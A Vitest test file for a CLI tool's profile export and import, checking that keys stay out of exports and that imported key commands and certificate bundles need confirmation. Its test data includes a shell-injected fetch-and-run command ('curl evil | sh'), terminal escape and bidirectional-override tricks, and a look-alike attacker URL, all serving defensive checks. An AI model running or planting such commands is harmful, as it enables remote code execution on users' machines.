import { mkdir, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, it, test } from 'vitest';
import { configured } from '../support/configured.ts';
import { errorOf } from '../support/resale.ts';
import { table } from '../support/table.ts';

const key = 'canary-key-0815-not-to-be-shown';

/** Two profiles, one with a key in the file, one with a command. */
const withTwo = async () => {
  const { run, config } = await configured();
  await run(
    'profiles add live --base-url https://api.shop.example --client-id client-1 --api-key-stdin --shop-id S1 --protected --service-name Acme',
    { stdin: key },
  );
  await run(
    'profiles add vault --base-url https://api.shop.example --client-id client-2 --key-command "op read op://shop/key"',
  );
  return { run, config };
};

const exported = {
  version: 1,
  profiles: {
    live: {
      baseUrl: 'https://api.shop.example',
      clientId: 'client-1',
      shopId: 'S1',
      protected: true,
      dialect: { serviceName: 'Acme' },
    },
    vault: {
      baseUrl: 'https://api.shop.example',
      clientId: 'client-2',
      key: { store: 'command', command: 'op read op://shop/key', origin: 'https://api.shop.example' },
    },
  },
};

describe('profiles export', () => {
  it('of a profile where there is none', async () => {
    const { run } = await configured();
    const screen = await run('profiles export live');
    expect([screen.exitCode, errorOf(screen).hint]).toEqual([
      2,
      'There is none yet. To set it up: resale init live',
    ]);
  });

  it('prints everything but the keys', async () => {
    const { run } = await withTwo();
    const { exitCode, stdout, stderr } = await run('profiles export');
    expect([exitCode, JSON.parse(stdout), stderr]).toEqual([0, exported, '']);
    expect(stdout).not.toContain(key);
  });

  it('of those that are named, and into a file', async () => {
    const { run, config } = await withTwo();
    const file = join(config, '../profiles.json');
    expect(await run(`profiles export vault --out '${file}'`)).toMatchObject({ exitCode: 0, stdout: '' });
    expect(JSON.parse(await readFile(file, 'utf8'))).toEqual({
      version: 1,
      profiles: { vault: exported.profiles.vault },
    });
  });
});

describe('profiles import', () => {
  const text = JSON.stringify(exported);

  it('adds what was exported, which then lacks its key', async () => {
    const { run } = await configured();
    const imported = await run('profiles import - --yes', { stdin: text });
    expect(JSON.parse(imported.stdout)).toMatchObject([
      { name: 'live', keyStore: 'env', guard: 'protected' },
      { name: 'vault', keyStore: 'command', guard: null },
    ]);
    expect(JSON.parse((await run('profiles export')).stdout)).toEqual(exported);
    expect(errorOf(await run('profiles check live'))).toMatchObject({ code: 'no-credentials' });
  });

  it('says on a terminal which of them want a key', async () => {
    const { run, config } = await configured();
    await writeFile(join(config, '../profiles.json'), text);
    const { stderr } = await run('profiles import profiles.json --yes', { terminal: 80 });
    expect(stderr).toBe('Give live its key:\n  resale profiles set live --api-key-stdin\n');
  });

  it('asks before commands of somebody else run for keys', async () => {
    const { run } = await configured();
    const script = await run('profiles import -', { stdin: text });
    expect([script.exitCode, errorOf(script).message]).toEqual([
      2,
      'From now on, these commands will run to get the keys of their profiles: vault, whose key goes to https://api.shop.example: op read op://shop/key.',
    ]);
    expect(JSON.parse((await run('profiles list')).stdout).length).toBe(1);
  });

  it('asks before a profile that replaces another guards less, or leads elsewhere', async () => {
    const { run } = await withTwo();
    const elsewhere = {
      version: 1,
      profiles: { live: { baseUrl: 'https://api.shop.example.evil.example' } },
    };
    const script = await run('profiles import - --replace', { stdin: JSON.stringify(elsewhere) });
    expect([script.exitCode, errorOf(script).message]).toEqual([
      2,
      'The profile live would no longer be protected, and would lead to https://api.shop.example.evil.example, and no longer to https://api.shop.example.',
    ]);
    expect(JSON.parse((await run('profiles export live')).stdout).profiles.live.protected).toBe(true);
  });

  it('refuses what is too long to be an export', async () => {
    const { run } = await configured();
    for (const file of ['/dev/zero', '-'])
      expect(
        errorOf(await run(`profiles import ${file}`, { stdin: ' '.repeat(1024 * 1024 + 1) })).message,
      ).toBe('FILE must be at most 1 MiB long.');
  });

  const withKey = (key: object) =>
    JSON.stringify({
      version: 1,
      profiles: { live: { baseUrl: 'https://a.example', key: { store: 'command', ...key } } },
    });
  it.each([
    [{ command: "echo  'a  b'" }, "live, whose key goes to https://a.example: echo 'a  b'"],
    [{ command: 'echo a\n\nb' }, 'live, whose key goes to https://a.example: echo a b'],
    [
      { command: "echo 'a\n\u001b[8mb'" },
      String.raw`live, whose key goes to https://a.example: echo "$(printf 'a\012\033\1338mb')"`,
    ],
    [
      { command: 'id;\ncurl evil | sh', shell: true },
      String.raw`live, whose key goes to https://a.example: through the shell: id;\u000acurl evil | sh`,
    ],
    [
      { command: 'a\u202eb', shell: true },
      String.raw`live, whose key goes to https://a.example: through the shell: a\u202eb`,
    ],
  ])('shows the command as it would run: %j', async (key, shown) => {
    const { run } = await configured();
    const { exitCode, stderr } = await run('profiles import -', {
      stdin: withKey({ ...key, origin: 'https://a.example' }),
    });
    expect([exitCode, JSON.parse(stderr).error.message]).toEqual([
      2,
      `From now on, these commands will run to get the keys of their profiles: ${shown}.`,
    ]);
  });

  it('asks before it trusts certificate authorities that somebody else names', async () => {
    const { run, config } = await configured();
    const folder = join(config, '../elsewhere');
    await mkdir(folder);
    const exportedWith = JSON.stringify({
      version: 1,
      profiles: { live: { baseUrl: 'https://a.example', caBundle: 'ca.pem' } },
    });
    await writeFile(join(folder, 'profiles.json'), exportedWith);
    const asked = await run('profiles import elsewhere/profiles.json');
    expect([asked.exitCode, errorOf(asked).message, errorOf(asked).hint]).toEqual([
      2,
      `From now on, whoever holds a certificate from the authorities in these files can pose as the service: live: ${folder}/ca.pem.`,
      'Nothing was changed. To do it without being asked: resale profiles import elsewhere/profiles.json --yes',
    ]);
    expect(JSON.parse((await run('profiles list')).stdout).length).toBe(1);
    const imported = await run('profiles import elsewhere/profiles.json --yes');
    expect(JSON.parse(imported.stdout)[0].caBundle).toBe(`${folder}/ca.pem`);
    await run('profiles import - --yes --replace', { stdin: exportedWith });
    expect(JSON.parse((await run('profiles show live')).stdout).caBundle).toBe(join(config, '..', 'ca.pem'));
  });

  it('a relative path that is kept already follows no current directory: exit 2', async () => {
    const { run, config } = await configured();
    await mkdir(config, { mode: 0o700 });
    const kept = { profiles: { live: { baseUrl: 'https://127.0.0.1:9', caBundle: 'ca.pem' } } };
    await writeFile(join(config, 'config.json'), JSON.stringify(kept), { mode: 0o600 });
    const env = { RESALE_CLIENT_ID: 'client', RESALE_API_KEY: key };
    expect(errorOf(await run('listings list -p live', { env }))).toMatchObject({
      code: 'usage',
      message: 'The profile "live" names its certificate authorities by a relative path, ca.pem.',
      hint: expect.stringMatching(
        /^Name them by an absolute one: resale profiles set live --ca-bundle '?\/.+\/ca\.pem'?$/,
      ),
    });
  });

  it('replaces none, unless told to', async () => {
    const { run } = await withTwo();
    const screen = await run('profiles import - --yes', { stdin: text });
    expect([screen.exitCode, errorOf(screen).message, errorOf(screen).hint]).toEqual([
      2,
      'There are profiles of these names already: live, vault.',
      'Nothing was imported. Use --replace to replace them.',
    ]);
    expect((await run('profiles import - --yes --replace', { stdin: text })).exitCode).toBe(0);
    expect(JSON.parse((await run('profiles list')).stdout)[0].keyStore).toBe('env');
  });

  it('leaves out what it does not know, and names it', async () => {
    const { run } = await configured();
    const live = { baseUrl: 'https://a.example', dialect: { serviceName: 'Acme' } };
    const stdin = JSON.stringify({
      version: 1,
      by: 'canary',
      profiles: { live: { ...live, apiKey: 'canary', dialect: { ...live.dialect, serviceNam: 'canary' } } },
    });
    const { exitCode, stderr } = await run('profiles import -', { stdin });
    expect([exitCode, stderr]).toEqual([
      0,
      'stdin has fields that this version does not know and leaves out: profiles.live.dialect.serviceNam, profiles.live.apiKey, by\n',
    ]);
    expect(JSON.parse((await run('profiles export')).stdout)).toEqual({ version: 1, profiles: { live } });
  });

  test.each(
    table(String.raw`
      → it is not JSON
      canary → it is not JSON
      [] → the file must be an object
      {} → version is missing; profiles is missing
      {"version":1,"profiles":{"live":7}} → profiles.live must be an object
      {"version":1,"profiles":{"live":{"baseUrl":"https://a.example","readonly":true}}} → profiles.live.readonly is not known (did you mean readOnly?)
      {"version":1,"profiles":{"live":{"protected":"canary"},"other":{"baseUrl":7}}} → profiles.live.baseUrl is missing; profiles.live.protected must be a boolean; profiles.other.baseUrl must be a string
      {"version":1,"profiles":{"live":{"baseUrl":"http://me:canary@a.example"},"a.b":{"baseUrl":"https://a.example"}}} → profiles.live.baseUrl must not hold a user name or password; a profile's name consists of a-z, 0-9, '-' and '_', begins with a letter or digit, and has at most 63 characters
      {"version":1,"profiles":{"live":{"baseUrl":"https://a.example","clientId":"canary\n1"}}} → profiles.live.clientId contains a line break
      {"version":1,"profiles":{"live":{"baseUrl":"https://a.example","key":{"store":"keyring","entry":"live"}}}} → profiles.live.key.store must be command; profiles.live.key.command is missing; profiles.live.key.origin is missing; profiles.live.key.entry is not known
      {"version":1,"profiles":{"live":{"baseUrl":"https://a.example","dialect":{"names":{"header.clientId":"X-\u0060canary\u0060"}},"key":{"store":"command","command":"cat canary | tac","origin":"https://a.example"}}}} → profiles.live.dialect.header.clientId must be the name of a header, such as X-Acme-Client-Id: letters, digits, -, _ and .; profiles.live.key.command contains |, which needs a shell
      {"version":1,"profiles":{"sandbox":{"baseUrl":"https://a.example"}}} → the profile "sandbox" is always there and can't be added, changed or removed
      {"version":1,"profiles":{"live":{"baseUrl":"https://shop.example","rate":"canary"},"good":{"baseUrl":"https://shop.example","rate":"1000/min"}}} → profiles.live.rate must be a rate such as 50, 50/s or 1000/min
    `),
  )('%s: exit 2, all faults are told, nothing is imported', async (stdin, faults = '') => {
    const { run } = await configured();
    const screen = await run('profiles import - --yes', { stdin });
    expect([screen.exitCode, errorOf(screen).message]).toEqual([
      2,
      'Stdin does not contain exported profiles.',
    ]);
    expect(errorOf(screen).details).toEqual(faults.split('; '));
    expect(screen.stderr).not.toContain('canary');
    expect(JSON.parse((await run('profiles list')).stdout).length).toBe(1);
  });

  it('a file that is not there: exit 2', async () => {
    const { run } = await configured();
    const screen = await run('profiles import /nowhere.json');
    expect([screen.exitCode, errorOf(screen).message]).toEqual([
      2,
      "FILE can't be read from /nowhere.json: there is no such file or folder.",
    ]);
  });

  it('a file with a byte order mark is read all the same', async () => {
    const { run, config } = await configured();
    const path = join(config, '../profiles.json');
    await writeFile(path, `\uFEFF${text}`);
    expect((await run(`profiles import '${path}' --yes`)).exitCode).toBe(0);
  });
});
